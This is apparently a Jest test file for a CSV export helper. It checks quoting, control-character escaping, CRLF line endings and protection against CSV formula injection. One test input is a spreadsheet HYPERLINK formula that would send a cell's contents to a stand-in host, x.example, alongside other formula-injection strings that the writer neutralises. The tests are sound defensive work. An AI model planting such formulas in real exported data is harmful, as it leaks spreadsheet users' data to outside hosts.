import { csvDocument, csvField } from '../../lib/private/csv';

describe('csv', () => {
  test('leaves plain fields unquoted', () => {
    // GIVEN / WHEN / THEN
    expect(csvField('dc1-connector')).toBe('dc1-connector');
    expect(csvField('')).toBe('');
  });

  test('quotes a field with a comma or a quote, doubling the quotes', () => {
    // GIVEN / WHEN / THEN
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
  });

  test('writes control characters (line breaks among them) as visible escapes, as the reports do', () => {
    // GIVEN / WHEN / THEN
    expect(csvField('line\nbreak')).toBe('line\\u000abreak');
    expect(csvField('cr\rhere')).toBe('cr\\u000dhere');
    expect(csvField('bell\u0007 esc\u001b[31m del\u007f c1\u009b')).toBe('bell\\u0007 esc\\u001b[31m del\\u007f c1\\u009b');
  });

  test('fails to start a formula: a field starting with = + - @ tab or CR gets a leading single quote', () => {
    // GIVEN connector names a spreadsheet would run (OWASP CSV injection)
    // WHEN / THEN
    expect(csvField('=HYPERLINK("http://x.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
    expect(csvField('+1+1')).toBe('\'+1+1');
    expect(csvField('-2+3')).toBe('\'-2+3');
    expect(csvField('@SUM(A1:A2)')).toBe('\'@SUM(A1:A2)');
    expect(csvField('\t=1')).toBe('\'\\u0009=1');
    expect(csvField('\r=1')).toBe('\'\\u000d=1');
    expect(csvField('dc1-connector')).toBe('dc1-connector');
    expect(csvField('a=b')).toBe('a=b');
  });

  test('writes the header and every record, each ended by CRLF', () => {
    // GIVEN
    const header = ['name', 'note'];
    const rows = [['a', 'x,y'], ['b', '']];

    // WHEN
    const document = csvDocument(header, rows);

    // THEN
    expect(document).toBe('name,note\r\na,"x,y"\r\nb,\r\n');
  });

  test('writes only the header when there are no rows', () => {
    // GIVEN / WHEN / THEN
    expect(csvDocument(['name'], [])).toBe('name\r\n');
  });
});
